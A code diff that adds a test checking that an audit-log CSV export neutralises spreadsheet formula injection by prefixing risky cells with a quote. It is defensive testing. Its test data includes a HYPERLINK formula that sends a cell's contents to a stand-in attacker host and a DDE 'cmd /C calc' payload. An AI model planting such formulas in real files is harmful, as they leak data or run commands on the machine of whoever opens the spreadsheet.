@@ -93,3 +93,37 @@ async def test_cli_verify_names_the_first_bad_event(
     broken = await invoke("audit", "verify", "--tenant", world.a.slug)
     assert broken.exit_code == 1
     assert f"t:{world.a.id}: BROKEN at event 2" in broken.output
+
+
+async def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(
+    app: Any, db: Database, world: World
+) -> None:
+    from core.audit.log import Actor, acting_as, record
+
+    formulas = [
+        '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "＝1+1",
+    ]
+    harmless = ["問い合わせ対応", "1-2", "a=b"]
+    with acting_as(Actor(user_id=None, roles=("operator",), request_id="=cmd")):
+        async with db.session(world.a) as session:
+            for n, text in enumerate(formulas + harmless):
+                await record(
+                    session, "pii.read", object_type="customer", object_id=f"c{n}", purpose=text
+                )
+    exported = await app.get(
+        f"/api/v1/t/{world.a.slug}/audit/events.csv?action=pii.read",
+        headers=world.headers["a:client_admin"],
+    )
+    assert exported.status_code == 200
+    rows = {r["object_id"]: r for r in csv.DictReader(io.StringIO(exported.text, newline=""))}
+    for n, text in enumerate(formulas):
+        assert rows[f"c{n}"]["purpose"] == "'" + text
+        assert rows[f"c{n}"]["request_id"] == "'=cmd"
+    for n, text in enumerate(harmless, start=len(formulas)):
+        assert rows[f"c{n}"]["purpose"] == text
